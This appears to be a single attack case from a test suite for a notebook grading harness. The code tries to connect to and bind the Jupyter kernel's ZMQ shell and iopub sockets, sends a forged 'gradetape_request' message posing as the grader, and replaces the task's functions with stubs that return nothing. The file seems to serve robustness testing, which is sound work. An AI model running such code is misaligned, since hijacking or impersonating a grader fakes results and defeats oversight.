# /// attack
# title = "Closes the kernel's sockets, listens on the same addresses and connects to itself as if it were the grader"
# ///

# %%
import zmq

kernel = get_ipython().kernel
shell, iopub = kernel.addresses if hasattr(kernel, "addresses") else ("", "")
context = zmq.Context.instance()
for kind, address in ((zmq.DEALER, shell), (zmq.SUB, iopub), (zmq.ROUTER, shell), (zmq.XPUB, iopub)):
    print("TRIED to sit on", kind)
    socket = context.socket(kind)
    socket.linger = 0
    try:
        if kind in (zmq.DEALER, zmq.SUB):
            socket.connect(address)
            if kind == zmq.SUB:
                socket.subscribe(b"")
            else:
                kernel.session.send(socket, "gradetape_request", {"op": "names"})
        else:
            socket.bind(address)
    except (zmq.ZMQError, TypeError) as error:
        print(type(error).__name__)

# %%
rank_of = kind_of = make_scalar = lambda *args: None
